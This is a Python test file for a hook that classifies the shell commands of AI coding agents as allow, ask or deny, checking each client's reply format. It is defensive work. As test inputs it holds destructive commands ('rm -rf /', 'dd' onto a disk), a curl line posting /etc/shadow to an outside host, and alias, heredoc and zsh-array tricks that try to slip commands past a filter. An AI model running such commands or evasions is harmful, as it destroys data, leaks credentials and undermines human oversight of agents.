"""What every client is told, message by message."""

from __future__ import annotations

import json
import pathlib

import pytest

from riskclass.adapters.hooks import answer as answers
from riskclass.adapters.hooks import calls
from riskclass.adapters.hooks.answer import answer
from riskclass.adapters.hooks.clients import CLIENTS
from riskclass.adapters.hooks.decide import Judgement, Question, Settings, decide
from tests.hooks.messages import KINDS, reading

SAFE, CHANGES, FATAL = "systemctl status app", "systemctl restart app", "rm -rf /"
STDIN = sorted((pathlib.Path(__file__).parent / "stdin").glob("*.json"))
assert STDIN, "no messages of real clients"


def _told(kind: str, command: object, settings: Settings | None = None, **more: object) -> tuple[str, str, int]:
    return answer(CLIENTS[KINDS[kind].client], KINDS[kind].message(command, **more), settings)  # type: ignore[arg-type]


def _reads(kind: str, command: object, settings: Settings | None = None, **more: object) -> str:
    return reading(kind, _told(kind, command, settings, **more))


#: kind → what becomes of an allow, an ask and a deny. `usual`: the client goes on as if there were no hook.
BECOMES = {
    "claude": ("allowed", "asks", "blocked"),
    "claude-skill": ("allowed", "asks", "blocked"),
    "claude-permission": ("allowed", "usual", "blocked"),  # it is about to ask: silence lets it
    "claude-in-vscode": ("allowed", "asks", "blocked"),
    "codex": ("usual", "blocked", "blocked"),  # it knows no ask
    "codex-permission": ("allowed", "usual", "blocked"),
    "gemini": ("usual", "asks", "blocked"),
    "qwen": ("allowed", "asks", "blocked"),
    "copilot": ("allowed", "asks", "blocked"),
    "copilot-text": ("allowed", "asks", "blocked"),
    "copilot-pascal": ("allowed", "asks", "blocked"),
    "copilot-in-vscode": ("allowed", "asks", "blocked"),
    "cursor": ("allowed", "asks", "blocked"),
    "cursor-tool": ("allowed", "blocked", "blocked"),  # it would accept an ask, and run
    "vscode": ("allowed", "asks", "blocked"),
    "vscode-in-copilot": ("allowed", "asks", "blocked"),
    "vscode-in-copilot-camel": ("allowed", "asks", "blocked"),
    "opencode": ("usual", "blocked", "blocked"),
    "goose": ("usual", "blocked", "blocked"),
    "cline": ("usual", "blocked", "blocked"),
    "cline-sdk": ("usual", "asks", "blocked"),
    "windsurf": ("usual", "blocked", "blocked"),
    "kiro": ("usual", "blocked", "blocked"),
    "devin": ("usual", "blocked", "blocked"),
    "openhands": ("usual", "blocked", "blocked"),
}


@pytest.mark.parametrize("kind", KINDS)
def test_what_becomes_of_a_decision(kind: str) -> None:
    assert tuple(_reads(kind, command) for command in (SAFE, CHANGES, FATAL)) == BECOMES[kind]


def test_every_form_of_every_client_has_messages() -> None:
    for client in CLIENTS.values():
        made = [answers._form(client, json.loads(k.message("ls"))) for k in KINDS.values() if k.client == client.name]
        assert set(made) == set(client.forms), client.name


ALLOW = "riskclass: systemctl status: only observes (allow: class read_only, preset ops)"
ASK = "riskclass: systemctl restart app: restarts a service (ask: class disruptive, preset ops)"
DENY = (
    "riskclass: rm -rf /: deletes recursively (deny: a whole file system, disk, pool or host is at stake, preset ops)"
)
NOBODY = " (a person has to run it: there is nobody to ask here)"


def _nested(decision: str, reason: str) -> str:
    inner = f'"hookEventName":"PreToolUse","permissionDecision":"{decision}","permissionDecisionReason":"{reason}"'
    return f'{{"hookSpecificOutput":{{{inner}}}}}'


EXACT = [
    ("claude", CHANGES, _nested("ask", ASK)),
    ("codex", CHANGES, _nested("deny", ASK + NOBODY)),
    ("qwen", SAFE, _nested("allow", ALLOW)),
    (
        "claude-permission",
        FATAL,
        '{"hookSpecificOutput":{"hookEventName":"PermissionRequest","decision":{"behavior":"deny","message":"'
        f'{DENY}"}}}}}}',
    ),
    (
        "codex-permission",
        SAFE,
        '{"hookSpecificOutput":{"hookEventName":"PermissionRequest","decision":{"behavior":"allow"}}}',
    ),
    ("gemini", CHANGES, f'{{"decision":"ask","reason":"{ASK}","systemMessage":"{ASK}"}}'),
    ("copilot", SAFE, f'{{"permissionDecision":"allow","permissionDecisionReason":"{ALLOW}"}}'),
    ("cursor", FATAL, f'{{"permission":"deny","user_message":"{DENY}","agent_message":"{DENY}"}}'),
    ("cursor", SAFE, '{"permission":"allow"}'),
    ("goose", FATAL, f'{{"decision":"block","reason":"{DENY}"}}'),
    ("cline", SAFE, '{"cancel":false}'),
    ("cline", FATAL, f'{{"cancel":true,"errorMessage":"{DENY}"}}'),
    ("cline-sdk", CHANGES, f'{{"review":true,"errorMessage":"{ASK}"}}'),
]


@pytest.mark.parametrize(("kind", "command", "out"), EXACT)
def test_the_words_of_an_answer(kind: str, command: str, out: str) -> None:
    assert _told(kind, command) == (out + "\n", "", 0)


@pytest.mark.parametrize("kind", ["opencode", "windsurf", "kiro", "devin", "openhands"])
def test_words_where_there_is_no_json(kind: str) -> None:
    assert _told(kind, FATAL) == ("", DENY + "\n", 2)
    assert _told(kind, CHANGES) == ("", ASK + NOBODY + "\n", 2)


@pytest.mark.parametrize("path", STDIN, ids=lambda path: path.stem)
def test_messages_of_real_clients(path: pathlib.Path) -> None:
    out, err, code = answer(CLIENTS[path.stem.partition("-")[0]], path.read_bytes())
    assert (err, code) == ("", 0)
    assert "deny" not in out and "ask" not in out
    assert reading(path.stem, (out, err, code)) in ("allowed", "usual")


# what is asked about


@pytest.mark.parametrize("kind", sorted(KINDS.keys() - {"cursor", "windsurf"}))  # which name no tool
@pytest.mark.parametrize("name", ["PowerShell", "pwsh"])
def test_powershell_is_not_read(kind: str, name: str) -> None:
    assert _reads(kind, "ls", tool=name) in ("asks", BECOMES[kind][1])


@pytest.mark.parametrize("tool", ["zsh", "my_shell", "container_exec", "Terminal", "run_script"])
def test_an_unknown_tool_that_looks_like_a_shell_is_judged(tool: str) -> None:
    assert _reads("claude", SAFE, tool=tool) == "usual"  # never permission: we do not know what it does with it
    assert _reads("claude", CHANGES, tool=tool) == "asks"
    assert _reads("claude", FATAL, tool=tool) == "blocked"
    assert _reads("vscode", FATAL, tool=tool) == "blocked"


@pytest.mark.parametrize("kind", ["vscode", "claude-in-vscode", "copilot-in-vscode", "cline", "cline-sdk", "opencode"])
@pytest.mark.parametrize("args", [{"path": "/etc/passwd"}, {"query": "rm -rf /"}, {}])
def test_tools_without_shell_text_pass_in_silence(kind: str, args: dict[str, str]) -> None:
    made = KINDS[kind].make("readFile", args)
    assert answer(CLIENTS[KINDS[kind].client], json.dumps(made).encode()) == ("", "", 0)


def test_an_editor_whose_argument_is_named_command_passes() -> None:
    made = KINDS["vscode"].make("str_replace_editor", {"command": "create", "path": "x"})
    assert answer(CLIENTS["vscode"], json.dumps(made).encode()) == ("", "", 0)


def test_a_shell_without_text_passes_where_every_tool_comes_in() -> None:
    made = KINDS["vscode"].make("get_terminal_output", {"id": "3"})
    assert answer(CLIENTS["vscode"], json.dumps(made).encode()) == ("", "", 0)


def test_a_command_one_level_down_is_asked_about() -> None:
    made = KINDS["vscode"].make("create_and_run_task", {"task": {"type": "shell", "command": "ls"}})
    assert reading("vscode", answer(CLIENTS["vscode"], json.dumps(made).encode())) == "asks"


UNSURE = [
    ("mcp_x_process", {"command": "find", "args": ["/srv", "-delete"]}),
    ("mcp_exec", {"command": "ls", "cwd": "/srv"}),
    ("mcp_exec", {"command": "git status", "extra": "x"}),
    ("mcp_exec", {"command": "ls", "cmd": "ls"}),
    ("mcp_exec", {"command": ["ls", "-l"]}),
    ("mcp_exec", {"commands": ["ls", "pwd"]}),
    ("mcp_run_python", {"script": "ls # anything"}),
    ("mcp_exec", {"argv": ["rm", "-rf", "/srv/x"]}),
    ("start_process", {"program": "rm", "args": ["-rf", "/srv/x"]}),
    ("run_task_x", {"a": {"b": {"command": "ls"}}}),
    ("run_task_x", {"a": [{"command": "ls"}]}),
    ("run_vscode_command", {"commandId": "sendSequence", "args": [{"text": "ls"}]}),
    ("run_in_terminal", {"command": "find", "args": ["/srv", "-delete"]}),
    ("run_in_terminal", {"command": ["ls", "-l"]}),
    ("run_in_terminal", {"argv": ["ls"]}),
]


@pytest.mark.parametrize("kind", ["vscode", "claude-in-vscode", "copilot-in-vscode"])
@pytest.mark.parametrize(("tool", "args"), UNSURE)
def test_what_may_not_be_all_that_happens_is_asked_about(kind: str, tool: str, args: dict[str, object]) -> None:
    made = KINDS[kind].make(tool, args)
    assert reading(kind, answer(CLIENTS[KINDS[kind].client], json.dumps(made).encode())) == "asks"


@pytest.mark.parametrize("tool", ["exec", "run_in_terminal"])
@pytest.mark.parametrize("words", [["rm", "-rf", "/"], ["dd", "if=/dev/zero", "of=/dev/sda"]])
def test_a_list_of_words_is_a_program_and_its_arguments(tool: str, words: list[str]) -> None:
    made = KINDS["vscode"].make(tool, {"command": words})
    assert reading("vscode", answer(CLIENTS["vscode"], json.dumps(made).encode())) == "blocked"


def test_opencodes_plugin_passes_on_what_looks_like_a_shell() -> None:
    assert f"/{'|'.join(calls.SHELLS)}/i" in CLIENTS["opencode"].places[0].text


def test_a_monitor_without_a_command_runs_none() -> None:
    made = KINDS["claude"].make("Monitor", {"ws": {"url": "ws://localhost"}})
    assert answer(CLIENTS["claude"], json.dumps(made).encode()) == ("", "", 0)
    assert _reads("claude", FATAL, tool="Monitor") == "blocked"


@pytest.mark.parametrize("kind", ["copilot", "copilot-pascal", "vscode-in-copilot"])
def test_text_typed_into_what_runs_is_at_least_asked_about(kind: str) -> None:
    for command, expected in (("", "asks"), ("C-c", "asks"), ("y", "asks"), (SAFE, "asks"), (FATAL, "blocked")):
        made = KINDS[kind].make("write_bash", {"shellId": "1", "input": command})
        assert reading(kind, answer(CLIENTS[KINDS[kind].client], json.dumps(made).encode())) == expected


@pytest.mark.parametrize(("text", "expected"), [("C-c", "usual"), ("", "usual"), ("ls", "blocked"), ("y", "blocked")])
def test_input_in_openhands(text: str, expected: str) -> None:
    assert _reads("openhands", text, is_input=True) == expected


@pytest.mark.parametrize("kind", sorted(KINDS.keys() - {"openhands", "claude-permission", "codex-permission"}))
def test_input_is_said_to_openhands_alone(kind: str) -> None:
    assert _reads(kind, "C-c", is_input=True) != "usual"


@pytest.mark.parametrize("session", ["bash", "sh -i", "python", "ssh host", "psql", "docker exec -it web sh"])
@pytest.mark.parametrize("ask", ["", "pass"])
def test_codex_starts_no_session_whose_input_no_hook_sees(
    session: str, ask: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert _reads("codex", session, Settings(ask)) == "blocked"
    _decide_always("allow", monkeypatch)
    assert _reads("codex", session, Settings(ask)) == "blocked"
    assert _reads("claude", session) == "allowed"


def _decide_always(action: str, monkeypatch: pytest.MonkeyPatch) -> None:
    def always(question: Question) -> Judgement:
        found = decide(question)
        return Judgement(action, found.because, found.session)

    monkeypatch.setattr(answers, "decide", always)


def test_several_commands_are_judged_each_and_together() -> None:
    assert _reads("cline-sdk", ["ls", "pwd"]) == "usual"
    assert _reads("cline-sdk", ["ls", FATAL]) == "blocked"
    for swallowing in ("cat <<'A'", "echo \\", ": '", "if true; then"):
        assert _reads("cline-sdk", [swallowing, FATAL, "A"]) == "blocked"
    assert _reads("cline-sdk", ["alias ls='rm -rf /'", "ls"]) == "blocked"
    made = KINDS["cline-sdk"].make("run_commands", {"command": "ls", "commands": [FATAL]})
    assert reading("cline-sdk", answer(CLIENTS["cline"], json.dumps(made).encode())) == "blocked"


# settings


@pytest.mark.parametrize("kind", KINDS)
def test_ask_deny(kind: str) -> None:
    assert _reads(kind, CHANGES, Settings("deny")) == "blocked"
    assert _reads(kind, SAFE, Settings("deny")) == BECOMES[kind][0]


def test_ask_pass_leaves_an_ask_to_codex_where_codex_asks() -> None:
    told = Settings("pass")
    assert _reads("codex", CHANGES, told) == "usual"
    assert _reads("codex", FATAL, told) == "blocked"
    assert _reads("codex-permission", CHANGES, told) == "usual"
    for mode in ("bypassPermissions", "dontAsk"):
        made = json.loads(KINDS["codex"].message(CHANGES)) | {"permission_mode": mode}
        assert reading("codex", answer(CLIENTS["codex"], json.dumps(made).encode(), told)) == "blocked"


def test_gemini_without_a_terminal_cannot_ask(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(answers, "_alone", lambda: True)
    assert _reads("gemini", CHANGES) == "blocked"
    assert _reads("gemini", SAFE) == "usual"
    assert _reads("claude", CHANGES) == "asks"


# the policy that counts


def test_the_projects_policy_counts_and_can_only_be_stricter(tmp_path: pathlib.Path) -> None:
    def says(text: str) -> str:
        (tmp_path / ".riskclass.toml").write_text(text)
        made = json.loads(KINDS["claude"].message(SAFE)) | {"cwd": str(tmp_path / "sub")}
        return reading("claude", answer(CLIENTS["claude"], json.dumps(made).encode()))

    assert says('[classes]\nread_only = "deny"\n') == "blocked"
    assert says('[classes]\nread_only = "ask"\n') == "asks"
    assert says('[classes]\nread_only = "allow"\n') == "allowed"


def test_a_policy_that_is_named_counts(tmp_path: pathlib.Path) -> None:
    file = tmp_path / "p.toml"
    file.write_text('[classes]\ndisruptive = "allow"\n')
    assert _reads("claude", CHANGES, Settings(policy=str(file))) == "allowed"
    assert _reads("codex", CHANGES, Settings(policy=str(file))) == "usual"
    assert _reads("claude", FATAL, Settings(policy=str(file))) == "blocked"


@pytest.mark.parametrize("kind", ["cursor", "cline"])
def test_the_first_folder_that_is_open_is_the_project(kind: str, tmp_path: pathlib.Path) -> None:
    (tmp_path / ".riskclass.toml").write_text('[classes]\nread_only = "deny"\n')
    key = {"cursor": "workspace_roots", "cline": "workspaceRoots"}[kind]
    made = json.loads(KINDS[kind].message(SAFE)) | {key: [str(tmp_path), "/"]}
    assert reading(kind, answer(CLIENTS[KINDS[kind].client], json.dumps(made).encode())) == "blocked"


def test_what_was_asked_is_logged(tmp_path: pathlib.Path, monkeypatch: pytest.MonkeyPatch) -> None:
    log = tmp_path / "log.jsonl"
    _told("claude", SAFE)
    _told("claude", "curl -u a:hunter2 https://example.com", Settings(log=str(log)))
    monkeypatch.setenv("RISKCLASS_LOG", str(log))
    _told("codex", FATAL)
    lines = [json.loads(line) for line in log.read_text().splitlines()]
    assert [(line["door"], line["decision"]) for line in lines] == [("hook claude", "allow"), ("hook codex", "deny")]
    assert "hunter2" not in log.read_text()


def test_a_log_that_cannot_be_written_changes_no_answer() -> None:
    assert _reads("claude", SAFE, Settings(log="/nowhere/log")) == "allowed"
    assert _reads("claude", SAFE, Settings(log="relative")) == "allowed"


# where it runs


@pytest.mark.parametrize(
    ("kind", "more", "cwd"),
    [
        ("claude", {}, "/w/p"),
        ("codex", {}, "/w/p"),
        ("gemini", {}, "/w/p"),
        ("gemini", {"dir_path": "sub/../other"}, "/w/p/other"),
        ("gemini", {"dir_path": "/tmp"}, "/tmp"),
        ("gemini", {"dir_path": 3}, None),
        ("qwen", {"directory": "/srv"}, "/srv"),
        ("opencode", {"workdir": "x"}, "/w/p/x"),
        ("copilot", {}, None),
        ("vscode", {}, None),
        ("windsurf", {}, None),
        ("goose", {}, None),
        ("cursor", {}, None),
    ],
)
def test_a_folder_counts_where_the_command_surely_runs_there(
    kind: str, more: dict[str, object], cwd: str | None, monkeypatch: pytest.MonkeyPatch
) -> None:
    asked: list[Question] = []
    monkeypatch.setattr(answers, "decide", lambda question: (asked.append(question), decide(question))[1])
    _told(kind, "ls", **more)
    assert asked[0].cwd == cwd


def test_zsh_is_read_as_zsh(monkeypatch: pytest.MonkeyPatch) -> None:
    assert _reads("claude", "ls =ls") == "allowed"
    monkeypatch.setenv("SHELL", "/usr/bin/zsh")
    assert _reads("claude", "ls =ls") == "asks"
    assert _reads("claude", "a=(rm -rf /); $a") == "blocked"  # in zsh
    assert _reads("claude", "a=(rm --help); $a -rf /") == "blocked"  # in bash, which the client may use all the same
    assert _reads("claude", "ls -l | head") == "allowed"


# what a reason may hold


def test_a_reason_is_one_short_line_that_strict_readers_take() -> None:
    out, err, code = _told("codex", "ls\x1b[2J\n\udc80 'a\udc80" + "x" * 5000)
    assert (err, code) == ("", 0)
    out.encode("ascii")
    assert "\\ud" not in out.lower()
    reason = json.loads(out)["hookSpecificOutput"]["permissionDecisionReason"]
    assert reason.isprintable()
    assert len(reason) < 2000


def test_secrets_are_masked() -> None:
    assert "hunter2" not in _told("claude", "curl -u admin:hunter2 https://example.com -d @/etc/shadow")[0]
